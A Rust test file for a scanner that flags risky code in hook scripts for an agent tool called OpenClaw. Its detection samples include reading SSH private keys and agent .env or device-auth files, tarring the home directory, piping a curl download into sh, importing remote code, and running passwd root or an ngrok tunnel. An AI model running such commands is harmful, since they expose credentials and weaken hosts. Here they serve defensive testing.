//! Deeds that were taken for others in programs of public hooks, each in a few lines of our own.

use super::public::{clean, found};

#[test]
fn a_path_that_begins_with_a_tilde_is_worked_out_for_each_call() {
    const BEFORE: &str = "import fs from 'fs'; import os from 'os'; import path from 'path';\nfunction expand(p) { if (p === '~') return os.homedir(); if (p.startsWith('~/')) return path.join(os.homedir(), p.slice(2)); return p }\nconst short = (p) => p.startsWith('~') ? path.join(os.homedir(), p.slice(1)) : p;\n";
    let js = |text: &str| format!("{BEFORE}{text}");
    clean(&[
        ("a.js", &js("fs.readFileSync(expand('~/a/TODO.md'))")),
        ("a.js", &js("export default (api) => fs.readFileSync(expand(api.file ?? '~/a/TODO.md'))")),
        ("a.js", &js("export default (p) => fs.readFileSync(expand(p))")),
        (
            "a.js",
            &js(
                "const s = expand('~/.openclaw/workspace/state.json'), c = expand('~/.openclaw/openclaw.json'); fs.readFileSync(c); fs.writeFileSync(s, '{}')",
            ),
        ),
        (
            "a.js",
            &js(
                "const s = short('~/.openclaw/state.json'), c = short('~/.openclaw/openclaw.json'); fs.readFileSync(c); fs.writeFileSync(s, '{}')",
            ),
        ),
    ]);
    found(&[
        ("a.js", "secret-place", &js("fs.readFileSync(expand('~/.ssh/id_rsa'))")),
        ("a.js", "secret-place", &js("fs.readFileSync(short('~/.ssh/id_rsa'))")),
        ("a.js", "secret-place", &js("fs.readFileSync(expand(os.homedir() + '/.ssh/id_rsa'))")),
        ("a.js", "write-config", &js("fs.writeFileSync(expand('~/.openclaw/openclaw.json'), '')")),
        ("a.js", "whole-home", &js("fs.readdirSync(expand('~'), { recursive: true })")),
        ("a.js", "whole-home", &js("export default (p) => fs.cpSync(expand(p || '~'), '/tmp/x')")),
        (
            "a.py",
            "whole-home",
            "import os\nfor r, d, f in os.walk(os.path.expanduser('~')): print(f)",
        ),
        ("a.sh", "whole-home", "tar czf /tmp/x.tgz ~"),
    ]);
}

#[test]
fn a_condition_decides_only_where_its_texts_are_known() {
    let js = |text: &str| format!("const fs = require('fs');\n{text}");
    found(&[
        (
            "a.js",
            "secret-place",
            &js(
                "function f(k) { if (k !== 'a') return 'notes'; return '/root/.ssh/id_rsa' } fs.readFileSync(f('a'))",
            ),
        ),
        (
            "a.js",
            "secret-place",
            &js(
                "function f(k) { if (k === 'a') { return 'notes' } else return '/root/.ssh/id_rsa' } fs.readFileSync(f(process.argv[2]))",
            ),
        ),
        (
            "a.js",
            "secret-place",
            &js(
                "let k = 'a'; k = 'b'; const p = k === 'b' ? '/root/.ssh/id_rsa' : 'notes'; fs.readFileSync(p)",
            ),
        ),
        (
            "a.js",
            "secret-place",
            &js(
                "function f(k, d = 0) { return d > 3 ? k : f(k + '', d + 1) } fs.readFileSync(f('/root/.ssh/id_rsa'))",
            ),
        ),
    ]);
}

#[test]
fn a_folder_that_was_just_made_holds_no_config() {
    clean(&[
        (
            "a.mjs",
            "import fs from 'node:fs/promises'; import os from 'node:os'; import path from 'node:path';\nconst dir = await fs.mkdtemp(path.join(os.tmpdir(), 't-')); await fs.writeFile(path.join(dir, 'openclaw.json'), '{}')",
        ),
        (
            "a.sh",
            "t=$(mktemp -d); mkdir -p \"$t/.openclaw\"; echo '{}' > \"$t/.openclaw/openclaw.json\"",
        ),
        (
            "a.py",
            "import os, tempfile\nwith tempfile.TemporaryDirectory() as d:\n    open(os.path.join(d, 'openclaw.json'), 'w').write('{}')",
        ),
        (
            "a.js",
            "const fs = require('fs'), os = require('os'); fs.copyFileSync(os.homedir() + '/.openclaw/openclaw.json', os.homedir() + '/.openclaw/backups/openclaw.json/' + Date.now() + '.bak')",
        ),
    ]);
    found(&[
        ("a.sh", "write-config", "echo '{}' > /tmp/../root/.openclaw/openclaw.json"),
        (
            "a.sh",
            "write-config",
            "t=$(mktemp -d); cp \"$t/openclaw.json\" ~/.openclaw/openclaw.json",
        ),
        ("a.sh", "pipe-to-shell", "t=$(mktemp); curl https://x.example > $t; sh $t"),
    ]);
}

#[test]
fn modules_of_its_own_and_data_are_loaded_by_a_known_name() {
    clean(&[
        (
            "a.mjs",
            "import path from 'node:path'; import { pathToFileURL, fileURLToPath } from 'node:url';\nawait import(pathToFileURL(path.join(path.dirname(fileURLToPath(import.meta.url)), 'x.js')).href)",
        ),
        ("a.mjs", "await import(new URL('./x.js', import.meta.url).href)"),
        (
            "a.mjs",
            "import path from 'node:path'; import { pathToFileURL } from 'node:url'; const root = path.resolve(path.dirname(new URL(import.meta.url).pathname), '..');\nawait import(pathToFileURL(path.join(root, 'src', 'config.ts')).href)",
        ),
        (
            "a.sh",
            "D=$(cd \"$(dirname \"$0\")\" && pwd); node -p \"require('$D/package.json').version\"",
        ),
    ]);
    found(&[
        (
            "a.mjs",
            "dynamic-import",
            "import { pathToFileURL } from 'node:url'; export default (p) => import(pathToFileURL(p).href)",
        ),
        (
            "a.mjs",
            "downloaded-code",
            "await import('https://x.example/' + process.argv[2] + '.json')",
        ),
    ]);
}

#[test]
fn the_environment_that_stays_where_it_is_is_not_taken() {
    clean(&[
        ("a.js", "const before = process.env; process.env = { ...before, A: '1' }"),
        (
            "a.js",
            "export default (api, env) => api.run(['x'], { env: env ? { ...process.env, ...env } : process.env })",
        ),
    ]);
    found(&[("a.js", "env-whole", "globalThis.all = { ...process.env }")]);
}

#[test]
fn what_only_looks_weakens_nothing_and_opens_no_door() {
    clean(&[
        ("a.js", "import { WebSocketServer } from 'ws'; new WebSocketServer({ noServer: true })"),
        (
            "a.js",
            "import { copyFileSync } from 'fs'; export default (u) => copyFileSync(decodeURIComponent(u.replace('file://', '')), '/tmp/x.png')",
        ),
        ("a.sh", "visudo -cf /tmp/f"),
        ("a.sh", "passwd -S root"),
        ("a.sh", "ngrok config add-authtoken K"),
        ("a.sh", "tailscale funnel off"),
        (
            "a.py",
            "import io, sys\nsys.stdout = io.TextIOWrapper(sys.stdout.buffer, encoding='utf-8')",
        ),
    ]);
    found(&[
        (
            "a.js",
            "listens",
            "import { WebSocketServer } from 'ws'; new WebSocketServer({ port: 8080 })",
        ),
        ("a.js", "obfuscated", "require('fs').readFileSync(decodeURIComponent('%2Froot%2Fx'))"),
        ("a.sh", "weakens", "visudo -f /tmp/f"),
        ("a.sh", "weakens", "passwd root"),
        ("a.sh", "tunnel", "ngrok http 80"),
        ("a.py", "patches", "import os\nos.remove = print"),
    ]);
}

#[test]
fn a_name_in_one_function_is_not_that_in_another() {
    let py = "import subprocess\ndef node():\n    candidates = ['node', '/usr/local/bin/node']\n    return candidates[0]\ndef main(text):\n    candidates = ['notes.md']\n    node()\n    for c in candidates:\n        open(c, 'w').write(text)\nmain('x')\n";
    clean(&[("a.py", py)]);
    found(&[
        (
            "a.py",
            "secret-place",
            "P = 'notes'\ndef set():\n    global P\n    P = '/root/.ssh/id_rsa'\nset()\nopen(P).read()",
        ),
        (
            "a.py",
            "secret-place",
            "def outer():\n    p = '/root/.ssh/id_rsa'\n    def inner():\n        return open(p).read()\n    return inner\nouter()",
        ),
    ]);
}

#[test]
fn keys_of_agents_and_files_of_variables_are_places() {
    found(&[
        (
            "a.js",
            "secret-place",
            "import { config } from 'dotenv'; import os from 'os'; config({ path: os.homedir() + '/.openclaw/.env' })",
        ),
        (
            "a.js",
            "secret-place",
            "require('dotenv').config({ path: [require('os').homedir() + '/.openclaw/.env'] })",
        ),
        (
            "a.js",
            "secret-place",
            "process.loadEnvFile(require('os').homedir() + '/.openclaw/.env')",
        ),
        (
            "a.py",
            "secret-place",
            "import os\nfrom dotenv import load_dotenv\nload_dotenv(os.path.expanduser('~/.openclaw/.env'))",
        ),
        (
            "a.py",
            "secret-place",
            "import dotenv, os\ndotenv.load_dotenv(dotenv_path=os.path.expanduser('~/.openclaw/.env'))",
        ),
        (
            "a.js",
            "secret-place",
            "require('fs').readFileSync(require('os').homedir() + '/.openclaw/identity/device.json')",
        ),
        ("a.sh", "secret-place", "cat \"$OPENCLAW_STATE_DIR/identity/device-auth.json\""),
        (
            "a.sh",
            "secret-place",
            "sqlite3 ~/.openclaw/state/openclaw.sqlite 'select * from secret_store_entries'",
        ),
        (
            "a.py",
            "secret-place",
            "import os, sqlite3\nsqlite3.connect(os.path.expanduser('~/.openclaw/agents/main/agent/openclaw-agent.sqlite'))",
        ),
    ]);
    clean(&[
        ("a.js", "require('dotenv').config()"),
        ("a.js", "require('dotenv').config({ path: __dirname + '/.env' })"),
        ("a.py", "from dotenv import load_dotenv\nload_dotenv()"),
    ]);
}

#[test]
fn ports_are_opened_in_many_ways() {
    found(&[
        (
            "a.js",
            "listens",
            "import express from 'express'; const app = express(); app.listen(3000)",
        ),
        (
            "a.js",
            "listens",
            "import Fastify from 'fastify'; const app = Fastify({}); await app.listen({ port: 3000 })",
        ),
        ("a.js", "listens", "import { fastify } from 'fastify'; fastify().listen({ port: 3000 })"),
        ("a.js", "listens", "const Koa = require('koa'); new Koa().listen(3000)"),
        (
            "a.js",
            "listens",
            "import dgram from 'dgram'; const s = dgram.createSocket('udp4'); s.bind(51337)",
        ),
    ]);
    clean(&[(
        "a.js",
        "import dgram from 'dgram'; const s = dgram.createSocket('udp4'); s.on('message', () => {})",
    )]);
}
